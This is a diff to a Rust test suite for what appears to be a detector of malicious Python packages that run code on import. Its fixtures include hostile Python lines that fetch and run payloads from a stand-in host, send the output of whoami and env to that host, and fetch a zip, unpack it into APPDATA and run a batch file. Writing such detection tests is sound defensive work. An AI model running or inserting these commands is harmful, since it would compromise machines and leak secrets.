@@ -134,7 +134,7 @@ fn a_pipeline_is_run_on_import() {
         os.system('wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n",
     );
     insta::assert_snapshot!(lines(&analysis), @r#"
-    process pkg/__init__.py os.system(wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x) <-  [Import 0]
+    process pkg/__init__.py os.system(wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x) <- network [Import 0]
     "#);
 }
 
@@ -485,6 +485,40 @@ fn templates_of_source_are_not_hidden() {
         "{}",
         lines(&analysis)
     );
+}
+
+#[test]
+fn commands_that_fetch_and_run_or_tell_are_paths_by_themselves() {
+    let analysis = one(
+        "import os, subprocess, requests\nos.system('curl -s https://drop.example/a | bash')\n\
+         os.system('curl https://drop.example/$(whoami)')\n\
+         out = subprocess.run(['env'], stdout=subprocess.PIPE).stdout.decode()\nrequests.post('https://drop.example', data=out)\n\
+         subprocess.run(['git', 'status'])\nos.system('curl -O https://data.example/x.csv')\n",
+    );
+    insta::assert_snapshot!(lines(&analysis), @r#"
+    process pkg/__init__.py os.system(curl -s https://drop.example/a | bash) <- network [Import 0]
+    process pkg/__init__.py os.system(curl https://drop.example/$(whoami)) <- host-identity [Import 0]
+    process pkg/__init__.py subprocess.run([env], stdout=subprocess.PIPE) <-  [Import 0]
+    network-send pkg/__init__.py requests.post(https://drop.example, data=subprocess.run().stdout.decode()) <- bulk-environment [Import 0]
+    process pkg/__init__.py subprocess.run([git, status]) <-  [Import 0]
+    process pkg/__init__.py os.system(curl -O https://data.example/x.csv) <-  [Import 0]
+    "#);
+}
+
+#[test]
+fn an_archive_that_is_fetched_and_unpacked_is_run() {
+    let analysis = one(
+        "import os, subprocess, urllib.request, zipfile\np = os.getenv('APPDATA') + '/x.zip'\n\
+         urllib.request.urlretrieve('https://drop.example/x', p)\nwith zipfile.ZipFile(p) as z:\n    z.extractall(os.getenv('APPDATA'))\n\
+         subprocess.Popen(os.getenv('APPDATA') + '/run.bat')\n",
+    );
+    let record = find(&analysis, SinkKind::WriteThenRun);
+    assert!(
+        record.sources.contains(&SourceKind::Network),
+        "{}",
+        lines(&analysis)
+    );
+    assert_eq!(record.arguments, ["$APPDATA/run.bat"]);
 }
 
 mod never_panics {
